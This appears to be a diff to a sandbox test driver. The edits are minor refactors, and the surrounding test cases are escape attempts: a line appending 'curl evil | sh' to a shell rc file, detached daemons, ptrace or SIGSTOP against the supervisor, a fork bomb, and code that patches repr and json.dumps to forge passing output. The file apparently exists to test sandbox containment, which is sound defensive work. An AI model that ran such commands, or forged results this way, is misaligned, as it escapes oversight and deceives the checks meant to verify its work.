@@ -11,6 +11,7 @@ Usage: ``python sandbox_driver.py CONFIG.json`` (keys: outside, home_file, rc_fi
 
 from __future__ import annotations
 
+import contextlib
 import json
 import os
 import resource
@@ -96,7 +97,7 @@ def shell_cases(cfg: dict[str, Any]) -> dict[str, str]:
         "sh_append_shell_rc": f"echo 'curl evil | sh' >> {cfg['rc_file']} && echo ESCAPED",
         "sh_leave_daemons": f"setsid sleep {marker} & nohup sh -c 'sleep {marker}' >/dev/null 2>&1 & "
         f"(sleep {marker} &) ; sleep 0.2",
-        "sh_ptrace_supervisor": "python3 -c \"import ctypes; l = ctypes.CDLL(None); "
+        "sh_ptrace_supervisor": 'python3 -c "import ctypes; l = ctypes.CDLL(None); '
         "print('ESCAPED' if l.ptrace(16, 2, 0, 0) == 0 else 'no')\"",
         "sh_stop_supervisor": "kill -STOP 2 && echo ESCAPED; kill -STOP 1 && echo ESCAPED; kill -STOP -1 && echo ESCAPED",
         "sh_fork_bomb": "b() { b | b & }; b; sleep 1",
@@ -161,7 +162,7 @@ def forgery_cases() -> dict[str, str]:
         "patch_repr": (
             "import builtins, json\n"
             "builtins.repr = lambda value: '5'\n"
-            "json.dumps = lambda *a, **k: '{\"i\": 0, \"ok\": true, \"value\": \"5\"}'\n"
+            'json.dumps = lambda *a, **k: \'{"i": 0, "ok": true, "value": "5"}\'\n'
             "class Five(int):\n    def __repr__(self):\n        return '5'\n    def __eq__(self, other):\n"
             "        return True\n"
             "def f(x):\n    return Five(x + 2)\n"
@@ -205,10 +206,8 @@ def stopped_from_outside(box: Sandbox) -> dict[str, Any]:
     def stop_the_sandbox() -> None:
         time.sleep(0.6)
         for pid in _descendants(mine):
-            try:
+            with contextlib.suppress(OSError):
                 os.kill(pid, signal.SIGSTOP)
-            except OSError:
-                pass
 
     thread = threading.Thread(target=stop_the_sandbox)
     started = time.monotonic()
